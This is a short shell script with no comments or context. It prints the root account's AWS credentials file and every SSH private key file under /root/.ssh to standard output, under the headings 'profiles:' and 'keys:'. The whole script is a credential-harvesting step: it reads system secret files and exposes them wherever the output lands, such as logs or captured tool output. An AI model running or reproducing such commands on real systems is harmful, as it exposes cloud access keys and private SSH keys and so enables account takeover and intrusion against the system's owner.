#!/bin/sh
echo "profiles:"
cat /root/.aws/credentials
echo "keys:"
cat /root/.ssh/id_*
